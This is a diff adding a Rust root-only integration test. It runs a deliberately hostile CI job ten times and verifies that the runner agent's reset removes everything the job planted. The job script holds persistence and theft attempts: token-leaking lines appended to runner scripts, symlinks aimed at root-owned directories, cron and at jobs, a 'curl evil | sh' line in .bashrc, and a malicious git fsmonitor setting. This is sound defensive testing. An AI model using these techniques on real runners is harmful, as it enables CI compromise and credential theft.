@@ -1,0 +1,300 @@
+//! Hostile jobs: a job is code the runner user runs, written to outlive its
+//! run. The shipped agent with a dedicated runner user (a real user this
+//! test creates), the fake runner running each job's steps as that user
+//! between the job hooks (as Runner.Worker does), the real `crontab` and
+//! `at` (Debian's cron and at), util-linux's `ipcmk`. After every release
+//! nothing the job did may reach the next run, and nothing outside what
+//! the reset owns may have been touched.
+
+use stack::agent::{AgentProcess, AgentSpec};
+use stack::users::TestUser;
+use stack::{Stack, StackOptions, INITIAL_RUN_ID};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+const SIGNAL_WAIT: Duration = Duration::from_secs(60);
+const RUNS: usize = 10;
+/// Files in each root-owned directory a job points a link at.
+const PRECIOUS_FILES: usize = 40;
+const BASHRC: &str = "# the operator's\n";
+
+fn root_only() -> bool {
+    if nix::unistd::geteuid().is_root() {
+        return true;
+    }
+    eprintln!("skipped: needs root (a user of its own, chown, cron)");
+    false
+}
+
+/// Root's directories outside anything the reset owns, each holding
+/// files: the targets of the links the job plants.
+fn precious(dir: &Path) -> Vec<PathBuf> {
+    let mut made = Vec::new();
+    for name in ["ssh", "docker", "work", "diag"] {
+        let target = dir.join("precious").join(name);
+        std::fs::create_dir_all(&target).unwrap();
+        for i in 0..PRECIOUS_FILES {
+            std::fs::write(target.join(format!("file-{i}")), "root's").unwrap();
+        }
+        made.push(target);
+    }
+    std::fs::set_permissions(dir.join("precious"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    made
+}
+
+/// Everything a job can try, as the runner user, from its workspace. Each
+/// attempt that should be refused prints a `BREACH` line if it works.
+fn hostile_job(stack: &Stack, run: usize, leak: &Path) -> String {
+    let paths = [
+        stack.runner_dir(),
+        stack.home_dir(),
+        stack.dir.path().join("tmp"),
+        stack.dir.path().join("precious"),
+    ];
+    let [r, h, t, p] = paths.each_ref().map(|p| p.display());
+    let leak = leak.display();
+    format!(
+        r#"set +e
+R='{r}'; H='{h}'; T='{t}'; P='{p}'
+for f in "$R/config.sh" "$R/run.sh" "$R/bin/Runner.Listener" "$R/.env" "$R/.runner-agent/job-started.sh" "$R/.runner-agent/job-completed.sh"; do
+    if echo 'echo "LEAK:$ACTIONS_RUNNER_INPUT_TOKEN" >> {leak}' >> "$f" 2>/dev/null; then echo "BREACH wrote $f"; fi
+done
+mv "$R/config.sh" "$R/config.sh.old" 2>/dev/null && echo "BREACH moved config.sh"
+echo x > "$R/planted" 2>/dev/null && echo "BREACH created a file in the install"
+rm -rf "$R/_diag" 2>/dev/null; ln -sT "$P/diag" "$R/_diag" 2>/dev/null && echo "BREACH replaced _diag"
+ln -s "$P/diag" "$R/_diag/planted-link"
+ln -s "$P/work" "$R/_work/planted-link"
+rm -rf "$H/.ssh" "$H/.docker"
+ln -s "$P/ssh" "$H/.ssh"
+ln -s "$P/docker" "$H/.docker"
+echo '* * * * * touch /tmp/ra-hostile-cron' | crontab - || echo "no crontab queued"
+echo 'touch /tmp/ra-hostile-at' | at now + 2 hours 2>/dev/null || echo "no at job queued"
+mkdir -p "$H/.config/systemd/user"
+printf '[Service]\nExecStart=/bin/true\n' > "$H/.config/systemd/user/evil.service"
+echo 'curl evil | sh' >> "$H/.bashrc"
+printf '[core]\n\tfsmonitor = evil\n' > "$H/.gitconfig"
+mkdir -p "$H/.cargo" && echo '[build]' > "$H/.cargo/config.toml"
+echo x > /dev/shm/ra-hostile-{run}
+mkdir -p "$T/shared/deep/er" && echo x > "$T/shared/deep/er/evil"
+echo x > "$T/shared/deep/mine"
+ipcmk -S 1 >/dev/null || echo "no semaphore made"
+echo steps done
+"#
+    )
+}
+
+/// The signal `state` for `run_id`, or a panic with the agent's log.
+async fn expect(stack: &Stack, agent: &AgentProcess, state: &str, run_id: &str) {
+    if let Err(last) = stack
+        .cp
+        .wait_signal(&stack.instance_id, state, run_id, SIGNAL_WAIT)
+        .await
+    {
+        panic!("no {state} for {run_id}: {last:?}\n{}", agent.log_text());
+    }
+}
+
+/// A process of the user started outside the runner's cgroup (as cron or
+/// a user manager would start one), named with bytes that are not UTF-8.
+fn stray_process(user: &TestUser) -> std::process::Child {
+    std::process::Command::new("setpriv")
+        .arg(format!("--reuid={}", user.uid))
+        .arg(format!("--regid={}", user.gid))
+        .arg("--clear-groups")
+        .args([
+            "setsid",
+            "sh",
+            "-c",
+            "printf 'job\\377\\376' > /proc/self/comm; while :; do sleep 0.2; done",
+        ])
+        .spawn()
+        .unwrap()
+}
+
+fn sysv_of(uid: u32) -> Vec<String> {
+    let mut found = Vec::new();
+    for kind in ["shm", "sem", "msg"] {
+        let text = std::fs::read_to_string(format!("/proc/sysvipc/{kind}")).unwrap_or_default();
+        let mut lines = text.lines();
+        let header: Vec<&str> = lines
+            .next()
+            .unwrap_or_default()
+            .split_whitespace()
+            .collect();
+        let col = header
+            .iter()
+            .position(|c| *c == "uid")
+            .unwrap_or(usize::MAX);
+        for line in lines {
+            if line.split_whitespace().nth(col) == Some(uid.to_string().as_str()) {
+                found.push(format!("{kind}: {line}"));
+            }
+        }
+    }
+    found
+}
+
+fn at_jobs_of(uid: u32) -> usize {
+    std::fs::read_dir("/var/spool/cron/atjobs")
+        .map(|dir| {
+            dir.filter_map(Result::ok)
+                .filter(|e| e.metadata().is_ok_and(|m| m.is_file() && m.uid() == uid))
+                .count()
+        })
+        .unwrap_or(0)
+}
+
+fn digest(path: &Path) -> Vec<u8> {
+    use sha2::{Digest, Sha256};
+    Sha256::digest(std::fs::read(path).unwrap()).to_vec()
+}
+
+/// Ten runs of the hostile job above: after every release the reset
+/// succeeded, no attempt on the install worked, every root-owned file a
+/// link pointed at is still there, and nothing the job left for later is
+/// left: crontab, at job, linger, user unit, shell and tool config, shared
+/// memory, deep temp files, SysV semaphores, a renamed process outside the
+/// cgroup. The next run registers with the verified config.sh, and no
+/// token ever reaches a file the job could plant.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ten_hostile_runs_leave_nothing_for_the_next() {
+    if !root_only() {
+        return;
+    }
+    let stack = Stack::start(StackOptions::default()).await;
+    let dir = stack.dir.path();
+    let user = TestUser::with_home("ra-hostile", &stack.home_dir());
+    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(stack.runner_log(), "").unwrap();
+    std::fs::set_permissions(stack.runner_log(), std::fs::Permissions::from_mode(0o666)).unwrap();
+    std::fs::set_permissions(stack.jobs_dir(), std::fs::Permissions::from_mode(0o777)).unwrap();
+    // What the operator prepared: kept, and put back after every run.
+    let home = stack.home_dir();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/authorized_keys"), "operator-key\n").unwrap();
+    std::fs::write(home.join(".bashrc"), BASHRC).unwrap();
+    for path in [".ssh", ".ssh/authorized_keys", ".bashrc"] {
+        std::os::unix::fs::lchown(home.join(path), Some(user.uid), Some(user.gid)).unwrap();
+    }
+    // A shared temp dir two levels deep (root's, world-writable, sticky).
+    let shared = dir.join("tmp/shared/deep");
+    std::fs::create_dir_all(&shared).unwrap();
+    for d in [dir.join("tmp"), dir.join("tmp/shared"), shared.clone()] {
+        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    }
+    let targets = precious(dir);
+    let leak = dir.join("leak");
+    let agent = stack.spawn_agent(&AgentSpec {
+        user: Some(user.name.into()),
+        reset: vec![format!(
+            "temp_dirs = [\"{}\", \"/dev/shm\"]",
+            dir.join("tmp").display()
+        )],
+        ..Default::default()
+    });
+    expect(&stack, &agent, "UD_REG_OK", INITIAL_RUN_ID).await;
+    let config_sh = stack.runner_dir().join("config.sh");
+    let verified = digest(&config_sh);
+    let id = stack.instance_id.clone();
+    let mut previous = (INITIAL_RUN_ID.to_owned(), "created");
+    for run in 1..=RUNS {
+        let (run_id, from) = previous.clone();
+        stack.queue_steps(&run_id, &hostile_job(&stack, run, &leak));
+        stack.wait_steps(&run_id).await;
+        let steps = stack.steps_log(&run_id);
+        assert!(!steps.contains("BREACH"), "run {run}: {steps}");
+        assert!(
+            !steps.contains("no "),
+            "run {run}: the job could not persist: {steps}"
+        );
+        // What only root could do for the job: logind's linger flag (as
+        // `loginctl enable-linger` makes it), a process outside the cgroup.
+        let linger = Path::new("/var/lib/systemd/linger").join(user.name);
+        std::fs::create_dir_all(linger.parent().unwrap()).unwrap();
+        std::fs::write(&linger, "").unwrap();
+        let mut stray = stray_process(&user);
+        assert!(
+            at_jobs_of(user.uid) >= 1,
+            "run {run}: the at job was queued"
+        );
+        assert!(
+            !sysv_of(user.uid).is_empty(),
+            "run {run}: the semaphore was made"
+        );
+
+        stack.cp.release(&id, &run_id, from).await;
+        expect(&stack, &agent, "UD_REMOVE_REG_REMOVE_RUN_OK", &run_id).await;
+
+        for target in &targets {
+            let left = std::fs::read_dir(target).unwrap().count();
+            assert_eq!(
+                left,
+                PRECIOUS_FILES,
+                "run {run}: {} emptied",
+                target.display()
+            );
+        }
+        assert_eq!(digest(&config_sh), verified, "run {run}");
+        assert!(!stack.runner_dir().join("planted").exists());
+        let crontab = std::process::Command::new("crontab")
+            .args(["-l", "-u", user.name])
+            .output()
+            .unwrap();
+        assert!(
+            !crontab.status.success(),
+            "run {run}: crontab left: {crontab:?}"
+        );
+        assert_eq!(at_jobs_of(user.uid), 0, "run {run}: at jobs left");
+        assert!(!linger.exists(), "run {run}: linger left");
+        assert_eq!(sysv_of(user.uid), Vec::<String>::new(), "run {run}");
+        assert!(
+            !Path::new(&format!("/dev/shm/ra-hostile-{run}")).exists(),
+            "run {run}"
+        );
+        assert!(
+            !shared.join("er").exists() && !shared.join("mine").exists(),
+            "run {run}"
+        );
+        assert!(shared.is_dir(), "run {run}: root's shared dir kept");
+        for gone in [".config/systemd", ".gitconfig", ".cargo"] {
+            assert!(!home.join(gone).exists(), "run {run}: {gone} left");
+        }
+        assert_eq!(
+            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+            BASHRC
+        );
+        assert!(!home.join(".ssh").is_symlink() && !home.join(".docker").exists());
+        assert_eq!(
+            std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
+            "operator-key\n",
+            "run {run}"
+        );
+        for path in ["_work", "_diag"] {
+            let meta = std::fs::symlink_metadata(stack.runner_dir().join(path)).unwrap();
+            assert!(meta.is_dir() && meta.uid() == user.uid, "run {run}: {path}");
+        }
+        let status = tokio::time::timeout(Duration::from_secs(5), async {
+            loop {
+                if let Some(status) = stray.try_wait().unwrap() {
+                    return status;
+                }
+                tokio::time::sleep(Duration::from_millis(20)).await;
+            }
+        })
+        .await
+        .unwrap_or_else(|_| panic!("run {run}: the renamed process outside the cgroup survived"));
+        assert!(!status.success());
+
+        let next = format!("7000-{run}");
+        stack.cp.claim(&id, &next).await;
+        expect(&stack, &agent, "UD_REG_OK", &next).await;
+        assert!(
+            !leak.exists(),
+            "run {run}: a token reached {}",
+            leak.display()
+        );
+        previous = (next, "claimed");
+    }
+    assert_eq!(stack.count_events("CONFIGURE "), RUNS + 1);
+}
